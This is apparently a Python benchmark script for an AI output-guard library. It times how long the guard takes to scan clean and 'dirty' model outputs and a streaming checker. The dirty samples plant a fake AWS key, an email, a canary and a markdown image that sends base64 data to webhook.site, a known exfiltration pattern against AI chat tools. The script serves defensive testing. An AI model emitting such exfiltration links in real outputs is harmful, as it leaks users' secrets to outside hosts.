"""Speed of the output checks: ``Guard.inspect_output`` and the streaming checker, one core.

    .venv/bin/python bench/output_speed.py [--quick]

Prints p50/p99 of ``inspect_output`` for 256 B, 2 KiB and 16 KiB model outputs — clean prose
with code and links, and the same text with a canary, a secret, PII and an exfiltration image
planted in it — a 1 MiB hostile output, and the streaming checker's cost per fed chunk (4, 32 and
256 characters) and per streamed KiB. Texts are generated here from fixed seeds. Bounded: a few
seconds.
"""

from __future__ import annotations

import argparse
import random
import sys
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from aimds_middleware import Guard

WORDS = ["the", "of", "and", "to", "in", "is", "for", "that", "with", "on", "as", "are", "this", "be", "by", "from", "it", "at", "or", "an", "was", "have", "not", "data", "system", "model", "function", "request", "value", "table", "report", "meeting", "project", "customer", "price", "please", "could", "review", "explain", "summary", "code", "python", "error", "file", "server", "user", "weather", "travel", "recipe", "music"]
SNIPPETS = (
    "\n```python\nfor i in range(10):\n    total += values[i] * 3.14\n```\n",
    " See https://docs.python.org/3/library/re.html?highlight=sub for details.",
    " Version 2.31.0 was released on 2024-01-15 with 1,234 changes.",
    " Read [the guide](https://example.com/guide#install) first.",
)


def clean_output(n: int, seed: int) -> str:
    rnd = random.Random(seed)
    out, size = [], 0
    while size < n:
        s = " ".join(rnd.choice(WORDS) for _ in range(rnd.randint(6, 16))).capitalize() + "."
        if rnd.random() < 0.2:
            s += rnd.choice(SNIPPETS)
        out.append(s + " ")
        size += len(s) + 1
    return "".join(out)[:n]


def dirty_output(n: int, seed: int, canary: str) -> str:
    plant = (f" key AKIAZ3MHQ7XPLR4TW2NB mail jane.roe@acme-corp.com {canary} "
             "![x](https://webhook.site/a1b2?d=U2VjcmV0UGFzc3dvcmQxMjM0NTY3ODkw) ")
    base = clean_output(max(n - len(plant), 0), seed)
    mid = len(base) // 2
    return (base[:mid] + plant + base[mid:])[:max(n, len(plant))]


def hostile(n: int) -> str:
    parts = ["![" * 2000, "](" * 2000, "a@b." * 5000, "4111 " * 5000, "-----BEGIN PRIVATE KEY-----\n" * 500,
             "https://" * 4000, "api_key=" * 4000, "\u200b".join("abcdefghijklmnop") * 500, "eyJ" * 5000]
    out, size, i = [], 0, 0
    while size < n:
        out.append(parts[i % len(parts)])
        size += len(parts[i % len(parts)])
        i += 1
    return "".join(out)[:n]


def timeit(fn, reps: int) -> tuple[list[float], list[float]]:
    """Wall and CPU microseconds per call. On a shared 2-core box the wall p99 includes the
    scheduler preempting us; the CPU-time p99 shows what the code itself costs."""
    fn()  # warm
    wall, cpu = [], []
    for _ in range(reps):
        t0, c0 = time.perf_counter_ns(), time.thread_time_ns()
        fn()
        cpu.append((time.thread_time_ns() - c0) / 1000)
        wall.append((time.perf_counter_ns() - t0) / 1000)
    return wall, cpu


def pct(xs: list[float], q: float) -> float:
    xs = sorted(xs)
    return xs[min(len(xs) - 1, int(q * len(xs)))]


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--quick", action="store_true", help="fewer repetitions")
    args = ap.parse_args()
    reps = 150 if args.quick else 600
    guard = Guard()
    for i in range(20):  # a realistic registry: a few sessions with live canaries
        guard.canary(session=f"s{i}")
    canary = guard.canary(session="bench")

    print("inspect_output (µs; 'dirty' = a canary, an AWS key, an email and an exfil image planted)")
    print(f"{'input':<22}{'p50':>10}{'p99':>10}{'p99 cpu':>10}{'action':>10}")
    for size, label in ((256, "256 B"), (2048, "2 KiB"), (16384, "16 KiB")):
        for kind in ("clean", "dirty"):
            text = clean_output(size, 1) if kind == "clean" else dirty_output(size, 1, canary)
            xs, cs = timeit(lambda t=text: guard.inspect_output(t, session="bench"),
                            reps if size < 16384 else reps // 3)
            action = guard.inspect_output(text, session="bench").action.value
            print(f"{label + ' ' + kind:<22}{pct(xs, .5):>10.1f}{pct(xs, .99):>10.1f}{pct(cs, .99):>10.1f}"
                  f"{action:>10}")
    big = hostile(1 << 20)
    xs, _ = timeit(lambda: guard.inspect_output(big), 3)
    print(f"{'1 MiB hostile':<22}{pct(xs, .5) / 1000:>8.1f}ms{max(xs) / 1000:>8.1f}ms{'':>10}"
          f"{guard.inspect_output(big).action.value:>10}")

    print("\nstreaming (clean 64 KiB output, window 256)")
    print(f"{'chunk':<10}{'µs/chunk p50':>14}{'p99':>10}{'µs/KiB':>10}{'held max':>10}")
    text = clean_output(65536, 2)
    for size in (4, 32, 256):
        chunks = [text[i:i + size] for i in range(0, len(text), size)]
        per, held = [], 0
        s = guard.output_stream(session="bench")
        t_all = time.perf_counter_ns()
        for c in chunks:
            t0 = time.perf_counter_ns()
            s.feed(c)
            per.append((time.perf_counter_ns() - t0) / 1000)
            held = max(held, len(s._pending))
        s.close()
        total_us = (time.perf_counter_ns() - t_all) / 1000
        print(f"{size:<10}{pct(per, .5):>14.1f}{pct(per, .99):>10.1f}{total_us / 64:>10.1f}{held:>10}")


if __name__ == "__main__":
    main()
